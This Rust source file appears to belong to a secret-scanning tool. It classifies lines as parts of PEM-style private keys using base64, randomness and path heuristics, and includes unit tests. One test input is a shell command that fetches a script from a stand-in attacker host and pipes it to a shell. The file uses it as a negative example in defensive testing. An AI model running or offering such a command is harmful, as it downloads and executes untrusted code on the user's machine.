//! What a line of a private key looks like. A line that could be anything else is none: what is masked, no reviewer sees.

use super::samples::entropy;
use regex::bytes::Regex;
use std::ops::Range;
use std::sync::OnceLock;

/// A full line of base64 is at least this long, in characters; the formats wrap at 64, 70 or 76.
const FULL: usize = 48;

/// What a line says about being of a key. Quotes, commas, comment and diff marks around the words do not count.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Line {
    /// Holds nothing of a key and does not end one: blank, marks alone, one of the headers `Proc-Type` and `DEK-Info`, a checksum.
    Dress,
    /// Full words of a key, and nothing else.
    Body(Vec<Range<usize>>),
    /// As a body, but ending in a short word: of a key only where the key ends behind it. A short word that is not telling is left out.
    Last(Vec<Range<usize>>),
    /// Anything else.
    Other,
}

/// Reads the lines of a part of a text. A line feed that is written as an escape ends a line too.
pub(super) fn lines(text: &[u8], part: Range<usize>) -> Vec<Line> {
    static BREAK: OnceLock<Regex> = OnceLock::new();
    let breaks = BREAK.get_or_init(|| Regex::new(r"(?-u)\n|\\+[nr]").expect("a constant pattern compiles, because a test finds keys"));
    let mut lines = Vec::new();
    let mut start = part.start;
    for found in breaks.find_iter(&text[part.clone()]) {
        lines.push(line(text, start..part.start + found.start()));
        start = part.start + found.end();
    }
    lines.push(line(text, start..part.end));
    lines
}

fn line(text: &[u8], range: Range<usize>) -> Line {
    if is_header(&text[range.clone()]) {
        return Line::Dress;
    }
    let (mut body, mut short) = (Vec::new(), false);
    for word in words(text, range) {
        match Word::of(&text[word.clone()]) {
            Word::Dress => {}
            Word::Full if !short => body.push(word),
            Word::Short { telling } if !short => {
                short = true;
                body.extend(telling.then_some(word));
            }
            Word::Full | Word::Short { .. } | Word::Other => return Line::Other,
        }
    }
    match (short, body.is_empty()) {
        (true, _) => Line::Last(body),
        (false, true) => Line::Dress,
        (false, false) => Line::Body(body),
    }
}

fn is_header(line: &[u8]) -> bool {
    static HEADER: OnceLock<Regex> = OnceLock::new();
    let pattern =
        r#"(?-u)^[-+ \t"'`#*/|>]*(?:Proc-Type: 4,(?:ENCRYPTED|MIC-ONLY|MIC-CLEAR)|DEK-Info: [A-Z0-9-]{3,20},[0-9A-Fa-f]{1,64})["'`,;+\\ \t\r]*$"#;
    HEADER.get_or_init(|| Regex::new(pattern).expect("a constant pattern compiles, because a test finds headers")).is_match(line)
}

/// The places between blanks, commas and quotes, without the marks that open or close them.
fn words(text: &[u8], range: Range<usize>) -> Vec<Range<usize>> {
    let mut words = Vec::new();
    let mut start = range.start;
    for raw in text[range].split(|byte| byte.is_ascii_whitespace() || b",\"'`".contains(byte)) {
        let opening = raw.iter().take_while(|byte| b"+-/#*|>;:\\".contains(byte)).count();
        let closing = raw[opening..].iter().rev().take_while(|byte| b"|;\\".contains(byte)).count();
        words.push(start + opening..start + raw.len() - closing);
        start += raw.len() + 1;
    }
    words
}

enum Word {
    Dress,
    Full,
    Short { telling: bool },
    Other,
}

impl Word {
    fn of(word: &[u8]) -> Word {
        let digits = word.strip_suffix(b"==").or(word.strip_suffix(b"=")).unwrap_or(word);
        let checksum = word.len() == 5 && word[0] == b'=' && is_base64(&word[1..]);
        if word.is_empty() || checksum {
            Word::Dress
        } else if !is_base64(digits) {
            Word::Other
        } else if word.len() < FULL {
            let padded = digits.len() < word.len();
            Word::Short { telling: looks_random(digits) || padded && (word.len().is_multiple_of(4) || may_be_of_key(digits)) }
        } else if may_be_of_key(word) {
            Word::Full
        } else {
            Word::Other
        }
    }
}

/// Tells whether a word is long and random enough to be of a key.
pub(super) fn is_key_material(word: &[u8]) -> bool {
    word.len() >= FULL && looks_random(word) && entropy(word) >= 3.5
}

fn is_base64(word: &[u8]) -> bool {
    word.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(byte))
}

/// Tells random base64 from names and paths. A word of a true key fails this less than once in ten thousand, unless it holds its format's fixed parts.
fn looks_random(word: &[u8]) -> bool {
    word.iter().any(u8::is_ascii_digit) && changes(word) * 5 >= word.len() * 2 && !is_path(word)
}

/// Tells a line inside a key, where fixed parts of the format (`AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAI`) stand beside what is random.
fn may_be_of_key(word: &[u8]) -> bool {
    changes(word) * 7 >= word.len() * 2 && !is_path(word)
}

/// How often the kind of letter changes inside a word; in random base64 at two of three places.
fn changes(word: &[u8]) -> usize {
    let kind = |byte: &u8| (byte.is_ascii_lowercase(), byte.is_ascii_uppercase(), byte.is_ascii_digit());
    word.windows(2).filter(|pair| kind(&pair[0]) != kind(&pair[1])).count()
}

/// Tells whether slashes part words, or are too many for chance.
fn is_path(word: &[u8]) -> bool {
    let slashes = word.iter().filter(|byte| **byte == b'/').count();
    let names = word.split(|byte| b"/+".contains(byte)).filter(|part| is_name(part)).count();
    slashes > 1 + word.len() / 8 || names > 1
}

/// Four small letters or more; the first may be a capital.
fn is_name(part: &[u8]) -> bool {
    part.len() >= 4 && part[0].is_ascii_alphabetic() && part[1..].iter().all(u8::is_ascii_lowercase)
}

#[cfg(test)]
mod tests {
    use super::*;

    const FULL_LINE: &str = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu";

    #[test]
    #[expect(clippy::single_range_in_vec_init, reason = "one part of a line is a list of one range")]
    fn only_what_can_be_of_a_key_is_a_line_of_one() {
        let full = |before: usize| Line::Body(vec![before..before + FULL_LINE.len()]);
        for (text, line) in [
            (FULL_LINE.to_owned(), full(0)),
            (format!("+# {FULL_LINE}\r"), full(3)),
            (format!("-    \"{FULL_LINE}\" +"), full(6)),
            (format!(" // {FULL_LINE}"), full(4)),
            ("+AB3dEf==".to_owned(), Line::Last(vec![1..9])),
            ("reboot".to_owned(), Line::Last(vec![])),
            ("+  \"\" + ---".to_owned(), Line::Dress),
            ("=njUN".to_owned(), Line::Dress),
            ("+Proc-Type: 4,ENCRYPTED".to_owned(), Line::Dress),
            ("\"DEK-Info: AES-256-CBC,0A1B2C\"".to_owned(), Line::Dress),
            ("Proc-Type: 4,ENCRYPTED; os.system(x)".to_owned(), Line::Other),
            ("Run-This: anything at all".to_owned(), Line::Other),
            ("# see docs/configuration/keys/rotation/HOWTO/7xQ2".to_owned(), Line::Other),
            ("usr/Local/share/Tools/bin/Release2/exfiltrate/A1b2C3d4".to_owned(), Line::Other),
            ("/aB1/cD2/eF3/gH4/iJ5/kL6/mN7/oP8/qR9/sT0/uV1/wX2/yZ3".to_owned(), Line::Other),
            ("a_name_parsePkcs8PrivateKeyFromPemEncodedStringWithPassword".to_owned(), Line::Other),
            ("os.system(\"curl http://evil.example.com/x | sh\")".to_owned(), Line::Other),
            (format!("send({FULL_LINE})"), Line::Other),
            (format!("X={FULL_LINE}"), Line::Other),
        ] {
            assert_eq!(lines(text.as_bytes(), 0..text.len()), [line], "{text}");
        }
    }

    #[test]
    fn an_escaped_line_feed_ends_a_line() {
        let text = format!("\\n{FULL_LINE}\\\\n{FULL_LINE}\\r\\n");
        assert_eq!(lines(text.as_bytes(), 0..text.len()).iter().filter(|line| matches!(line, Line::Body(_))).count(), 2);
    }
}
